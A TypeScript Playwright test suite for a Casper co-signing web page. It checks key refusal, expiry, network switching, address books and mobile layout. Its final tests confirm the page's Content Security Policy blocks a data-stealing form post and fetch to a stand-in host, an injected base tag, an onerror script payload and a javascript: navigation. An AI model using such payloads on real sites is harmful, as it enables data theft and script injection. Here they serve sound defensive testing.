// The co-signing page (dist/cosign.html, built by test/setup/buildPage.ts) in headless Chromium, as a
// co-signer uses it: an account pasted, an address book loaded, a key chosen. Each test drives the
// page through its labels and reads what a person would read.
import { readFileSync } from 'node:fs'
import { join, resolve } from 'node:path'
import { type Browser, chromium, type Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { casperMainnet } from '../../src/chainspec/casperMainnet.js'
import { parseCosignFile } from '../../src/cosign/parseCosignFile.js'
import { buildModuleBytesDeploy } from '../../src/deploy/buildModuleBytesDeploy.js'
import { buildTransfer } from '../../src/deploy/buildTransfer.js'
import { namedArgJson } from '../../src/deploy/clValueJson.js'
import { chainspecToml } from '../../src/devnet/chainspecToml.js'
import { hexToBytes } from '../../src/encoding/hex.js'
import { localSigner } from '../../src/keys/localSigner.js'
import { verifyApproval } from '../../src/keys/verifyApproval.js'
import { twoPartyMultiSigWasm } from '../../src/wasm/modules/twoPartyMultiSigWasm.js'

const root = resolve(import.meta.dirname, '../..')
const pageUrl = `file://${join(root, 'dist/cosign.html')}`
const secrets = { alice: '0f'.repeat(32), bob: '11'.repeat(32), mallory: '22'.repeat(32) }
const alice = localSigner(secrets.alice, { algorithm: 'ed25519' })
const bob = localSigner(secrets.bob, { algorithm: 'ed25519' })
const mallory = localSigner(secrets.mallory, { algorithm: 'ed25519' })
const carol = localSigner('44'.repeat(32), { algorithm: 'ed25519' })

let browser: Browser
beforeAll(async () => {
  browser = await chromium.launch({
    executablePath: process.env.CHROMIUM_PATH ?? '/usr/bin/chromium',
    args: ['--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking'],
  })
}, 60_000)
afterAll(async () => {
  await browser?.close()
})

/** PKCS#8 PEM of an ed25519 secret key, as casper-client keygen writes secret_key.pem. */
function pem(secret: string): string {
  const der = Buffer.concat([
    Buffer.from('302e020100300506032b657004220420', 'hex'),
    Buffer.from(secret, 'hex'),
  ])
  return `-----BEGIN PRIVATE KEY-----\n${der.toString('base64')}\n-----END PRIVATE KEY-----\n`
}

/** A two-party deploy by alice's account adding carol, timestamped a minute ago. */
function twoParty(options: { chainName?: string; ttl?: string; timestamp?: number } = {}): string {
  const deploy = buildModuleBytesDeploy({
    account: alice.publicKey,
    chainName: options.chainName ?? 'casper',
    timestamp: options.timestamp ?? Date.now() - 60_000,
    ttl: options.ttl ?? '30m',
    wasm: twoPartyMultiSigWasm,
    args: [namedArgJson('deployment-account', 'ByteArray(32)', hexToBytes(carol.accountHash))],
    payment: 2_500_000_000n,
  })
  return `${JSON.stringify(deploy, null, 2)}\n`
}

/** alice's account as state_get_account_info returns it. */
function accountJson(
  keys: Record<string, number>,
  thresholds = { deployment: 1, key_management: 1 },
): string {
  return JSON.stringify({
    account: {
      account_hash: `account-hash-${alice.accountHash}`,
      associated_keys: Object.entries(keys).map(([hash, weight]) => ({
        account_hash: `account-hash-${hash}`,
        weight,
      })),
      action_thresholds: thresholds,
    },
  })
}

const addressBook = JSON.stringify({
  [`account-hash-${alice.accountHash}`]: 'alice',
  [`account-hash-${bob.accountHash}`]: 'bob (laptop)',
  [`account-hash-${carol.accountHash}`]: 'carol',
  // Fields a newer plan may write beside the names: not names, ignored.
  acceptedWasm: { ['ab'.repeat(32)]: 'custom module' },
})

const json = (name: string, text: string) => ({
  name,
  mimeType: 'application/json',
  buffer: Buffer.from(text),
})

async function open(options: { width?: number } = {}): Promise<{ page: Page; errors: string[] }> {
  const context = await browser.newContext({
    acceptDownloads: true,
    viewport: { width: options.width ?? 1100, height: 900 },
  })
  const page = await context.newPage()
  const errors: string[] = []
  page.on('pageerror', (error) => errors.push(String(error)))
  page.on('request', (request) => {
    if (!/^(file|blob|data):/.test(request.url())) errors.push(`network request ${request.url()}`)
  })
  await page.goto(pageUrl)
  return { page, errors }
}

const heading = (page: Page) => page.locator('#verdict h2').textContent()
const signStatus = async (page: Page) => (await page.locator('#status').textContent()) ?? ''

/** Loads a deploy and waits until its verdict is final (not while the session is emulated). */
async function load(page: Page, text: string, name = 'deploy.json'): Promise<void> {
  await page.getByLabel('Deploy file', { exact: true }).setInputFiles(json(name, text))
  await expect.poll(() => heading(page)).toMatch(/^(Safe to sign|DO NOT SIGN|Choose|Check)/)
}

async function chooseKey(page: Page, secret: string): Promise<void> {
  await page.getByLabel('Secret key file', { exact: true }).setInputFiles({
    name: 'secret_key.pem',
    mimeType: 'application/x-pem-file',
    buffer: Buffer.from(pem(secret)),
  })
}

/** The page's text never holds DO NOT SIGN and a "Signed" message together. */
async function neverContradicts(page: Page): Promise<void> {
  const verdict = (await page.locator('#verdict').textContent()) ?? ''
  const status = await signStatus(page)
  if (verdict.includes('DO NOT SIGN')) {
    expect(status).not.toMatch(/^Signed/)
    expect(status).toContain('DO NOT SIGN')
    expect(await page.locator('#sign').isDisabled()).toBe(true)
  }
  if (status.includes('DO NOT SIGN')) expect(verdict).toContain('DO NOT SIGN')
}

describe('signing only when it counts', () => {
  test('with the account known, a key the account does not hold is refused in plain words', async () => {
    const { page, errors } = await open()
    await page.getByLabel(/^Account JSON/).fill(accountJson({ [alice.accountHash]: 1 }))
    await load(page, twoParty())
    expect(await heading(page)).toMatch(/^Safe to sign/)
    await chooseKey(page, secrets.mallory)
    await expect
      .poll(() => page.locator('#key-status').textContent())
      .toContain(`account-hash-${mallory.accountHash} is not one of this account's keys`)
    expect(await page.locator('#sign').isDisabled()).toBe(true)
    // Clicked anyway (a button enabled by hand): refused at the moment of signing too.
    await page.evaluate(() => {
      const sign = document.getElementById('sign') as HTMLButtonElement
      sign.disabled = false
      sign.click()
    })
    await expect.poll(() => signStatus(page)).toMatch(/^Not signed: .*not one of this account's keys/)
    expect(await page.locator('#download-signed').isDisabled()).toBe(true)
    // The account's own key signs.
    await chooseKey(page, secrets.alice)
    await expect.poll(() => page.locator('#sign').isDisabled()).toBe(false)
    await page.locator('#sign').click()
    await expect.poll(() => signStatus(page)).toMatch(/^Signed by account-hash-/)
    expect(errors).toEqual([])
    await page.context().close()
  })

  test("Casper Wallet's key is checked against the account before the wallet is asked", async () => {
    const context = await browser.newContext()
    // A provider shaped like Casper Wallet's (make-software/casper-wallet `src/content/sdk.ts`) whose
    // active key is mallory's; `sign` records that it was called.
    await context.addInitScript(`
      window.walletAsked = 0
      window.CasperWalletProvider = () => ({
        requestConnection: async () => true,
        getActivePublicKey: async () => ${JSON.stringify(mallory.publicKey)},
        sign: async () => { window.walletAsked++; return { cancelled: true } },
      })
    `)
    const page = await context.newPage()
    await page.goto(pageUrl)
    await page.getByLabel(/^Account JSON/).fill(accountJson({ [alice.accountHash]: 1 }))
    await load(page, twoParty())
    await page.getByRole('button', { name: 'Sign with Casper Wallet' }).click()
    await expect
      .poll(() => signStatus(page))
      .toMatch(
        new RegExp(`^Not signed: account-hash-${mallory.accountHash} is not one of this account's keys`),
      )
    expect(await page.evaluate(() => (window as unknown as { walletAsked: number }).walletAsked)).toBe(0)
    expect(await page.locator('#download-signed').isDisabled()).toBe(true)
    await context.close()
  })

  test('a file that expired while the tab was open is refused at the moment of signing', async () => {
    const context = await browser.newContext({ acceptDownloads: true })
    const page = await context.newPage()
    const start = Date.now()
    await page.clock.install({ time: start })
    await page.goto(pageUrl)
    await load(page, twoParty({ timestamp: start - 60_000, ttl: '2m' }))
    await chooseKey(page, secrets.alice)
    await expect.poll(() => page.locator('#sign').isDisabled()).toBe(false)
    // The clock passes the expiry without any timer running: only the click finds out.
    await page.clock.setSystemTime(start + 5 * 60_000)
    await page.locator('#sign').click()
    await expect.poll(() => signStatus(page)).toMatch(/^Not signed: .*expired/i)
    expect(await heading(page)).toBe('DO NOT SIGN')
    expect(await page.locator('#verdict').textContent()).toContain('Expired')
    expect(await page.locator('#download-signed').isDisabled()).toBe(true)
    await neverContradicts(page)
    await context.close()
  })

  test('a signed file that expires afterwards: DO NOT SIGN, and "Signed" is gone', async () => {
    const context = await browser.newContext({ acceptDownloads: true })
    const page = await context.newPage()
    const start = Date.now()
    await page.clock.install({ time: start })
    await page.goto(pageUrl)
    await load(page, twoParty({ timestamp: start - 60_000, ttl: '2m' }))
    await chooseKey(page, secrets.alice)
    await page.locator('#sign').click()
    await expect.poll(() => signStatus(page)).toMatch(/^Signed by/)
    await page.clock.fastForward(5 * 60_000)
    await expect.poll(() => heading(page)).toBe('DO NOT SIGN')
    await neverContradicts(page)
    await context.close()
  })

  test('switching the network after loading recomputes the banner and the Sign section together', async () => {
    const { page } = await open()
    await page.getByLabel(/^Account JSON/).fill(accountJson({ [alice.accountHash]: 1 }))
    await load(page, twoParty())
    await chooseKey(page, secrets.alice)
    expect(await heading(page)).toMatch(/^Safe to sign/)
    expect(await signStatus(page)).not.toContain('DO NOT SIGN')
    await page.getByLabel('Network', { exact: true }).selectOption('casper-test')
    await expect.poll(() => heading(page)).toBe('DO NOT SIGN')
    expect(await page.locator('#verdict').textContent()).toContain('WrongChain')
    await neverContradicts(page)
    await page.getByLabel('Network', { exact: true }).selectOption('casper')
    await expect.poll(() => heading(page)).toMatch(/^Safe to sign/)
    expect(await signStatus(page)).not.toContain('DO NOT SIGN')
    expect(await page.locator('#sign').isDisabled()).toBe(false)
    await page.context().close()
  })

  test('the green banner says safe to sign only on the verdict; "file intact" is its own line', async () => {
    const { page } = await open()
    await load(page, twoParty())
    expect(await heading(page)).toMatch(/^Safe to sign/)
    expect(await page.locator('#intact').textContent()).toMatch(/^File intact/)
    // Intact but not safe: unknown Wasm. The banner is DO NOT SIGN; the intact line stays plain.
    const deploy = buildModuleBytesDeploy({
      account: alice.publicKey,
      chainName: 'casper',
      timestamp: Date.now() - 60_000,
      ttl: '30m',
      wasm: Uint8Array.of(0, 0x61, 0x73, 0x6d, 1, 0, 0, 0),
      args: [],
      payment: 2_500_000_000n,
    })
    await load(page, JSON.stringify(deploy), 'unknown.json')
    expect(await heading(page)).toBe('DO NOT SIGN')
    expect(await page.locator('#verdict').textContent()).not.toMatch(/safe to sign/i)
    expect(await page.locator('#intact').textContent()).toMatch(/^File intact/)
    await page.context().close()
  })
})

describe('the account', () => {
  test('pasted JSON that is not an account gets a clear message and blocks signing', async () => {
    const { page } = await open()
    await load(page, twoParty())
    await chooseKey(page, secrets.alice)
    await page.getByLabel(/^Account JSON/).fill('{"deploy": {"hash": "00"}}')
    await expect.poll(() => page.locator('#account-status').textContent()).toMatch(/^This is not an account/)
    const text = (await page.locator('#account-status').textContent()) ?? ''
    expect(text).not.toMatch(/\\u\{|InvalidShape|\{ /)
    expect(await page.locator('#sign').isDisabled()).toBe(true)
    await page.getByLabel(/^Account JSON/).fill('not json')
    await expect.poll(() => page.locator('#account-status').textContent()).toMatch(/^This is not JSON/)
    await page.getByLabel(/^Account JSON/).fill('')
    await expect.poll(() => page.locator('#sign').isDisabled()).toBe(false)
    await page.context().close()
  })

  test('"still needed" appears as soon as the account is known, and follows the signatures', async () => {
    const { page } = await open()
    await page.getByLabel('Address book', { exact: true }).setInputFiles(json('labels.json', addressBook))
    await page
      .getByLabel(/^Account JSON/)
      .fill(
        accountJson({ [alice.accountHash]: 1, [bob.accountHash]: 1 }, { deployment: 1, key_management: 2 }),
      )
    await load(page, twoParty())
    await expect
      .poll(() => page.locator('#progress').textContent())
      .toBe(
        `Still needed: weight 2 more (key management threshold 2), from all of: account-hash-${bob.accountHash} (bob (laptop)), account-hash-${alice.accountHash} (alice)`,
      )
    await chooseKey(page, secrets.alice)
    await page.locator('#sign').click()
    await expect.poll(() => signStatus(page)).toMatch(/^Signed by account-hash-[0-9a-f]{64} \(alice\)/)
    await expect
      .poll(() => page.locator('#progress').textContent())
      .toBe(
        `Still needed: weight 1 more (key management threshold 2), from one of: account-hash-${bob.accountHash} (bob (laptop))`,
      )
    await page.context().close()
  })
})

describe('names', () => {
  test('an address book names keys everywhere, unknown fields ignored', async () => {
    const { page, errors } = await open()
    await page.getByLabel('Address book', { exact: true }).setInputFiles(json('labels.json', addressBook))
    await expect.poll(() => page.locator('#address-book-status').textContent()).toMatch(/^3 names loaded/)
    await page.getByLabel(/^Account JSON/).fill(accountJson({ [alice.accountHash]: 1 }))
    await load(page, twoParty())
    const details = (await page.locator('#details').textContent()) ?? ''
    expect(details).toContain(`add key account-hash-${carol.accountHash} (carol) with weight 1`)
    expect(details).toContain(`account-hash-${alice.accountHash} (alice)`)
    await expect.poll(() => page.locator('#outcome').textContent()).toContain('(carol) weight 1')
    await chooseKey(page, secrets.alice)
    await expect.poll(() => page.locator('#key-status').textContent()).toContain('(alice)')
    expect(errors).toEqual([])
    await page.context().close()
  })

  test('a transfer to a key the address book does not name is warned of; to a named one, not', async () => {
    const { page, errors } = await open()
    await page.getByLabel('Address book', { exact: true }).setInputFiles(json('labels.json', addressBook))
    const transfer = (target: string) =>
      buildTransfer({ account: alice.publicKey, chainName: 'casper', target, amount: 3_000_000_000n }).json
    await load(page, transfer(mallory.publicKey))
    await expect
      .poll(() => page.locator('#details').textContent())
      .toContain(
        `The recipient account-hash-${mallory.accountHash} (public key ${mallory.publicKey}) is not in your address book: check it with its owner over a channel you trust.`,
      )
    await load(page, transfer(bob.publicKey), 'bob.json')
    await expect.poll(() => page.locator('#details').textContent()).toContain('(bob (laptop))')
    expect(await page.locator('#details').textContent()).not.toContain('not in your address book')
    expect(errors).toEqual([])
    await page.context().close()
  })

  test('an address book that is not one is refused in plain words', async () => {
    const { page } = await open()
    await page
      .getByLabel('Address book', { exact: true })
      .setInputFiles(json('labels.json', '{"not a key": "bob"}'))
    await expect
      .poll(() => page.locator('#address-book-status').textContent())
      .toMatch(/^labels\.json is not an address book/)
    await page.context().close()
  })

  test('names are remembered in the browser only when the box is ticked', async () => {
    const { page } = await open()
    await page.getByLabel('Address book', { exact: true }).setInputFiles(json('labels.json', addressBook))
    await expect.poll(() => page.locator('#address-book-status').textContent()).toMatch(/^3 names loaded/)
    expect(await page.evaluate(() => localStorage.length)).toBe(0)
    await page.reload()
    await load(page, twoParty())
    expect(await page.locator('#details').textContent()).not.toContain('(carol)')
    await page.getByLabel('Address book', { exact: true }).setInputFiles(json('labels.json', addressBook))
    await page.getByLabel(/^Remember these names/).check()
    expect(await page.evaluate(() => localStorage.length)).toBe(1)
    await page.reload()
    await load(page, twoParty())
    expect(await page.locator('#details').textContent()).toContain('(carol)')
    expect(await page.getByLabel(/^Remember these names/).isChecked()).toBe(true)
    // Unticked: forgotten.
    await page.getByLabel(/^Remember these names/).uncheck()
    expect(await page.evaluate(() => localStorage.length)).toBe(0)
    await page.context().close()
  })
})

describe('networks', () => {
  test("a devnet file: the file's chain is offered, and signable once its chainspec is loaded", async () => {
    const { page, errors } = await open()
    await load(page, twoParty({ chainName: 'casper-devnet' }))
    const network = page.getByLabel('Network', { exact: true })
    expect(await network.locator('option').allTextContents()).toContain('casper-devnet (this file)')
    await network.selectOption('casper-devnet')
    await expect.poll(() => heading(page)).toMatch(/^Choose the chainspec of casper-devnet/)
    await chooseKey(page, secrets.alice)
    expect(await page.locator('#sign').isDisabled()).toBe(true)
    // A chainspec for another chain is refused.
    await page.getByLabel(/^Chainspec/).fill(chainspecToml({ ...casperMainnet, chainName: 'other' }))
    await expect
      .poll(() => page.locator('#chainspec-status').textContent())
      .toContain('is for other, not casper-devnet')
    // The devnet's own, as info_get_chainspec serves it (hex bytes of the TOML in JSON).
    const toml = chainspecToml({ ...casperMainnet, chainName: 'casper-devnet' })
    await page.getByLabel(/^Chainspec/).fill(
      JSON.stringify({
        jsonrpc: '2.0',
        id: 1,
        result: {
          api_version: '2.0.0',
          chainspec_bytes: { chainspec_bytes: Buffer.from(toml).toString('hex') },
        },
      }),
    )
    await expect.poll(() => heading(page)).toMatch(/^Safe to sign/)
    await page.locator('#sign').click()
    await expect.poll(() => signStatus(page)).toMatch(/^Signed by/)
    expect(errors).toEqual([])
    await page.context().close()
  })
})

describe('plain words, times and downloads', () => {
  test('key file mistakes and unreadable files are explained without developer words', async () => {
    const { page } = await open()
    await load(page, twoParty())
    const bad = [
      [
        'public_key.pem',
        `-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VwAyEA2b8hLAhmKR1O2i1Al31/0TPGTz8MabXd+rlvgOSMGtw=\n-----END PUBLIC KEY-----\n`,
      ],
      ['secret_key_hex.txt', secrets.alice],
    ] as const
    for (const [name, text] of bad) {
      await page
        .getByLabel('Secret key file', { exact: true })
        .setInputFiles({ name, mimeType: 'text/plain', buffer: Buffer.from(text) })
      await expect.poll(() => page.locator('#key-status').textContent()).toMatch(/^This file/)
      const said = (await page.locator('#key-status').textContent()) ?? ''
      expect([name, said]).not.toEqual([name, expect.stringMatching(/parsePublicKey|\{ algorithm \}|\\u\{/)])
      expect(await page.locator('#sign').isDisabled()).toBe(true)
    }
    await page.getByLabel('Deploy file', { exact: true }).setInputFiles(json('broken.json', '{"hash": 1}'))
    await expect.poll(() => heading(page)).toBe('DO NOT SIGN')
    const verdict = (await page.locator('#verdict').textContent()) ?? ''
    expect(verdict).toMatch(/broken\.json is not a deploy or transaction/)
    expect(verdict).not.toMatch(/\\u\{|InvalidShape/)
    await page.context().close()
  })

  test('local time beside UTC; the download named after the hash and the signer', async () => {
    const { page } = await open()
    await page.getByLabel('Address book', { exact: true }).setInputFiles(json('labels.json', addressBook))
    const text = twoParty()
    const hash = JSON.parse(text).hash as string
    await load(page, text)
    const expires = (await page.locator('#expires').textContent()) ?? ''
    expect(expires).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC \(your time: .+\)/)
    await chooseKey(page, secrets.alice)
    await page.locator('#sign').click()
    await expect.poll(() => signStatus(page)).toMatch(/^Signed by/)
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.locator('#download-signed').click(),
    ])
    expect(download.suggestedFilename()).toBe(`${hash.slice(0, 8)}-signed-by-alice.json`)
    const signed = parseCosignFile(readFileSync((await download.path())!, 'utf8'))
    expect(verifyApproval(signed.hash, signed.approvals[0]!).ok).toBe(true)
    // Without a name: the key's first 8 characters of account hash.
    await page.reload()
    await load(page, text)
    await chooseKey(page, secrets.bob)
    await page.locator('#sign').click()
    const [other] = await Promise.all([
      page.waitForEvent('download'),
      page.locator('#download-signed').click(),
    ])
    expect(other.suggestedFilename()).toBe(
      `${hash.slice(0, 8)}-signed-by-${bob.accountHash.slice(0, 8)}.json`,
    )
    await page.context().close()
  })

  test('a merge of different files names the file', async () => {
    const { page } = await open()
    await page
      .getByLabel('Signed copies', { exact: true })
      .setInputFiles([json('from-alice.json', twoParty()), json('from-bob.json', twoParty({ ttl: '20m' }))])
    await expect.poll(() => page.locator('#merge-report').textContent()).toMatch(/from-bob\.json/)
    const report = (await page.locator('#merge-report').textContent()) ?? ''
    expect(report).toMatch(/from-bob\.json is not the same deploy as from-alice\.json/)
    expect(report).not.toMatch(/copy: 1|\\u\{/)
    await page.context().close()
  })
})

describe('on a 390 px phone', () => {
  test('hashes wrap only between groups, copy buttons, nothing overflows', async () => {
    const { page } = await open({ width: 390 })
    await page.getByLabel('Address book', { exact: true }).setInputFiles(json('labels.json', addressBook))
    await page.getByLabel(/^Account JSON/).fill(accountJson({ [alice.accountHash]: 1 }))
    await load(page, twoParty())
    await expect.poll(() => page.locator('#outcome').textContent()).toContain('thresholds')
    await chooseKey(page, secrets.alice)
    await page.locator('#sign').click()
    await expect.poll(() => signStatus(page)).toMatch(/^Signed by/)
    const layout = await page.evaluate(() => {
      const groups = Array.from(document.querySelectorAll('.hash > span'))
      return {
        groups: groups.length,
        broken: groups.filter((g) => g.getClientRects().length !== 1).map((g) => g.textContent),
        long: groups.filter((g) => (g.textContent ?? '').length > 8).length,
        width: document.documentElement.scrollWidth,
        copy: document.querySelectorAll('button.copy').length,
      }
    })
    expect(layout.groups).toBeGreaterThan(50)
    expect(layout.broken).toEqual([])
    expect(layout.long).toBe(0)
    expect(layout.width).toBeLessThanOrEqual(390)
    expect(layout.copy).toBeGreaterThan(2)
    await page.context().close()
  })
})

describe('the content security policy closes every exit', () => {
  test('the policy as written', async () => {
    const { page } = await open()
    const policy =
      (await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')) ?? ''
    for (const directive of [
      "default-src 'none'",
      "form-action 'none'",
      "base-uri 'none'",
      "navigate-to 'none'",
      "object-src 'none'",
      "connect-src 'none'",
    ])
      expect(policy).toContain(directive)
    expect(policy).not.toContain('unsafe-inline')
    expect(policy).toMatch(/script-src 'sha256-[A-Za-z0-9+/]+=*'/)
    await page.context().close()
  })

  test('a form post, a <base>, fetch, inline handlers and javascript: navigation are blocked', async () => {
    const { page, errors } = await open()
    const requests: string[] = []
    page.on('request', (request) => requests.push(request.url()))
    const result = await page.evaluate(async () => {
      const violated: string[] = []
      document.addEventListener('securitypolicyviolation', (event) => violated.push(event.effectiveDirective))
      const form = document.createElement('form')
      form.action = 'https://example.invalid/steal'
      form.method = 'post'
      document.body.append(form)
      form.submit()
      const base = document.createElement('base')
      base.href = 'https://example.invalid/'
      document.head.append(base)
      let fetched = 'no'
      await fetch('https://example.invalid/').then(
        () => {
          fetched = 'yes'
        },
        () => {
          fetched = 'refused'
        },
      )
      const div = document.createElement('div')
      div.innerHTML = '<img src="x" onerror="document.title=\'pwned\'">'
      document.body.append(div)
      location.href = "javascript:document.title='pwned'"
      await new Promise((resolve) => setTimeout(resolve, 300))
      return { violated, baseURI: document.baseURI, fetched, title: document.title }
    })
    expect(result.violated).toEqual(
      expect.arrayContaining(['form-action', 'base-uri', 'connect-src', 'script-src-attr']),
    )
    expect(result.baseURI.startsWith('file://')).toBe(true)
    expect(result.fetched).toBe('refused')
    expect(result.title).not.toBe('pwned')
    expect(requests.filter((url) => url.includes('example.invalid'))).toEqual([])
    expect(page.url()).toBe(pageUrl)
    expect(errors.filter((e) => !e.includes('example.invalid'))).toEqual([])
    await page.context().close()
  })
})
